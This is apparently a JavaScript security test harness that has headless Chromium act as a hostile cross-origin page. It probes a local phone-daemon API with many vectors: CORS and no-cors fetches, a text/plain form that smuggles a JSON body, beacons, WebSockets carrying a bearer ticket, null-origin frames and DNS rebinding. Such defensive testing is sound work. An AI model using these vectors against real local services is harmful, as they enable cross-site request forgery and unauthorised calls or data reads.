// A page of another origin that tries everything a page can try, in headless Chromium, for tests/peers/test_hostile_page.py.
// usage: node hostile.mjs CHROMIUM PROFILE-DIRECTORY < {"port","token","ticket","body","verb"} . Prints one JSON object:
// {"victim": [vectors that reached a server that takes anything], "read": {vector: text that the page got from the phone},
// "own": what a page of the phone's own origin got, to show that the browser is able to}. The page knows a good token and a ticket: worse than any real one.
import http from 'node:http';
import { chromium } from 'playwright-core';

const [executablePath, profile] = process.argv.slice(2);
let input = '';
for await (const chunk of process.stdin) input += chunk;
const { port, token, ticket, body, verb } = JSON.parse(input);

const reached = new Set();
const victim = http.createServer((request, response) => {
  const vector = new URL(request.url, 'http://x').searchParams.get('vector');
  if (vector) reached.add(vector);
  if (request.url === '/attack') return response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>evil</title><link rel="icon" href="data:,">');
  response.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }).end('taken');
});
victim.on('upgrade', (request, socket) => {
  reached.add(new URL(request.url, 'http://x').searchParams.get('vector'));
  socket.destroy();
});
await new Promise((listening) => { victim.listen(0, '127.0.0.1', listening); });
const evil = victim.address().port;

const browser = await chromium.launchPersistentContext(profile, {
  executablePath,
  headless: true,
  args: [
    '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-sync', '--disable-background-networking', '--disable-component-update',
    '--host-resolver-rules=MAP evil.test 127.0.0.1,MAP rebound.test 127.0.0.1',
    // newer Chromium asks the user before a page may reach this machine; older ones and kiosks do not
    '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
  ],
});

// runs in the page: tries every vector against one server, gives back what it could read of the answers
async function attack({ base, token, ticket, body, verb, control }) {
  const read = {};
  const at = (path, vector) => `${base}${path}${control ? `?vector=${vector}` : ''}`;
  const soon = (promise) => Promise.race([promise, new Promise((late) => { setTimeout(() => late(null), 3000); })]);
  const keep = async (vector, get) => {
    try { read[vector] = await soon(get()) || null; } catch { read[vector] = null; }
  };
  const text = async (promise) => {
    const answer = await promise;
    return answer.type === 'opaque' || !answer.ok ? null : answer.text();
  };
  const bearer = { Authorization: `Bearer ${token}` };
  await keep('fetch', () => text(fetch(at('/v1/status', 'fetch'))));
  await keep('fetch-token', () => text(fetch(at('/v1/status', 'fetch-token'), { headers: bearer })));
  await keep('fetch-no-cors', () => text(fetch(at('/v1/status', 'fetch-no-cors'), { mode: 'no-cors' })));
  await keep('fetch-post', () => text(fetch(at('/v1/calls', 'fetch-post'), { method: 'POST', headers: { ...bearer, 'Content-Type': 'application/json' }, body })));
  await keep('fetch-post-no-cors', () => text(fetch(at('/v1/calls', 'fetch-post-no-cors'), { method: 'POST', mode: 'no-cors', body })));
  await keep('fetch-verb-no-cors', () => text(fetch(at(verb, 'fetch-verb-no-cors'), { method: 'POST', mode: 'no-cors' })));
  await keep('fetch-delete', () => text(fetch(at('/v1/drain', 'fetch-delete'), { method: 'DELETE', headers: bearer })));
  await keep('health', () => text(fetch(at('/healthz', 'health'))));
  await keep('xhr', () => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.status < 400 ? request.responseText : null); // a refusal may be read
    request.onerror = () => done(null);
    request.open('POST', at('/v1/calls', 'xhr'));
    request.setRequestHeader('Content-Type', 'text/plain');
    request.send(body);
  }));
  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
    const vector = `form-${enctype.split('/')[1]}`;
    await keep(vector, () => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.name = vector;
      document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { action: at('/v1/calls', vector), method: 'POST', enctype, target: vector });
      const field = document.createElement('input');
      // as text/plain this is the JSON body: {"account":...,"x":"="}
      Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
      form.append(field);
      document.body.append(form);
      let loads = 0;
      frame.onload = () => {
        loads += 1;
        try { done(frame.contentDocument?.body?.innerText || (loads > 1 ? null : undefined)); } catch { done(null); }
      };
      form.submit();
    }));
  }
  const loads = (tag, source) => (vector) => keep(vector, () => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => {
      try { done(tag === 'iframe' ? element.contentDocument?.body?.innerText : 'loaded'); } catch { done(null); }
    };
    element.onerror = () => done(null);
    if (tag === 'link') element.rel = 'stylesheet';
    element[source] = at('/v1/status', vector);
    document.body.append(element);
  }));
  await loads('img', 'src')('img');
  await loads('iframe', 'src')('iframe');
  await loads('script', 'src')('script');
  await loads('link', 'href')('stylesheet');
  for (const type of ['text/plain', 'application/json']) {
    navigator.sendBeacon(at('/v1/calls', `beacon-${type.split('/')[1]}`), new Blob([body], { type }));
  }
  await keep('eventsource', () => new Promise((done) => {
    const source = new EventSource(at('/v1/events', 'eventsource'));
    source.onmessage = (event) => done(event.data);
    source.onerror = () => done(null);
  }));
  for (const [vector, protocols] of [['websocket', []], ['websocket-ticket', ['phoned.v1', `bearer.${ticket}`]]]) {
    await keep(vector, () => new Promise((done) => {
      const socket = new WebSocket(at('/v1/events/ws', vector).replace('http', 'ws'), protocols);
      socket.onmessage = (event) => done(event.data);
      socket.onopen = () => done('open');
      socket.onerror = () => done(null);
    }));
  }
  // a frame without an origin: `Origin: null`
  await keep('null-origin', () => new Promise((done) => {
    window.addEventListener('message', (event) => done(event.data));
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    frame.srcdoc = `<script>fetch(${JSON.stringify(at('/v1/calls', 'null-origin'))},{method:'POST',headers:{'Content-Type':'text/plain'},body:${JSON.stringify(body)}}).then((answer)=>(answer.ok?answer.text():null),()=>null).then((text)=>parent.postMessage(text,'*'))<\/script>`;
    document.body.append(frame);
  }));
  await new Promise((later) => { setTimeout(later, 300); });
  return read;
}

async function from(origin, base, control = false, deed = attack) {
  const page = await browser.newPage();
  // only the page itself is the attacker's, as after a name was bound to this machine anew
  await page.route(`${origin}/attack`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>page</title><link rel="icon" href="data:,"><body>' }));
  await page.goto(`${origin}/attack`);
  const read = await page.evaluate(deed, { base, token, ticket, body, verb, control });
  await page.close();
  return read;
}

await from('http://evil.test:' + evil, `http://127.0.0.1:${evil}`, true);
const read = {};
for (const [name, origin, base] of [
  ['evil', `http://evil.test:${evil}`, `http://127.0.0.1:${port}`],
  ['neighbour', `http://127.0.0.1:${evil}`, `http://127.0.0.1:${port}`],
  ['localhost', `http://evil.test:${evil}`, `http://localhost:${port}`],
  ['rebound', `http://rebound.test:${port}`, `http://rebound.test:${port}`],
]) read[name] = await from(origin, base);
const own = await from(`http://127.0.0.1:${port}`, `http://127.0.0.1:${port}`, false, async ({ token: given, ticket: pass }) => ({
  status: await (await fetch('/v1/status', { headers: { Authorization: `Bearer ${given}` } })).text(),
  event: await new Promise((done, failed) => {
    const socket = new WebSocket(`ws://${location.host}/v1/events/ws`, ['phoned.v1', `bearer.${pass}`]);
    socket.onmessage = (message) => done(message.data);
    socket.onerror = failed;
  }),
}));
process.stdout.write(JSON.stringify({ victim: [...reached], read, own }));
await browser.close();
process.exit(0);
